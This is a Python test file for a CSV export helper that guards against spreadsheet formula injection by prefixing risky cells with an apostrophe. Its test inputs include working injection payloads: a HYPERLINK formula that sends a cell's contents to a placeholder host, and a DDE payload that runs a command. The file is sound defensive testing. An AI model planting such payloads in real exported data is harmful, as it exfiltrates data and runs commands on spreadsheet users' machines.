"""Texts that a spreadsheet would run are shown instead, and come back unchanged."""

import re
from io import BytesIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from flipset.results.spreadsheets import FORMULA, quote, unquote, write_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a.example/?"&A1,"x")', "=1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
        "\n=1", "＝1", "＋1", "－1", "＠a", " =1", "\u00a0=1", "\ufeff=1", "-", "=", "+", "-a", "- 5", "-5 ",
        "+49 30 1", "-1-1", "-1e5x", "--1",
    ],
)  # fmt: skip
def test_c12_formulas_get_an_apostrophe(text: str) -> None:
    assert quote(text) == f"'{text}"
    assert unquote(quote(text)) == text


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "a",
        "a=1",
        "income: 40 → at least 60",
        "1",
        "'tis",
        "5-3",
        -5,
        -5.0,
        None,
        True,
        "-5",
        "+5",
        "-0.5",
        "-1e-3",
        "-.5",
    ],
)
def test_c12_numbers_and_other_cells_stay(cell: object) -> None:
    assert quote(cell) is cell
    assert unquote(cell) is cell


@example(" \r")
@given(st.text(alphabet="'=+-@\t\r\n ＝1.e5a\ufeff", max_size=8) | st.text())
def test_what_is_quoted_comes_back_and_is_not_run(text: str) -> None:
    written = quote(text)
    assert unquote(written) == text
    number = re.fullmatch(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?", text)
    assert number or written.lstrip(" \u00a0\u200b\u2060\u3000\ufeff")[:1] not in tuple("=+-@＝＋－＠\t\r\n")
    assert (written == text) == (FORMULA.match(text) is None)


def test_a_table_is_written_row_by_row() -> None:
    out, raw = BytesIO(), BytesIO()
    for file, raw_text in ((out, False), (raw, True)):
        write_csv(file, ["=a", "b"], [["=1+1", 2.5], ["ü", None]], raw_text=raw_text)
    assert out.getvalue().decode() == "'=a,b\r\n'=1+1,2.5\r\nü,\r\n"
    assert raw.getvalue().decode() == "=a,b\r\n=1+1,2.5\r\nü,\r\n"
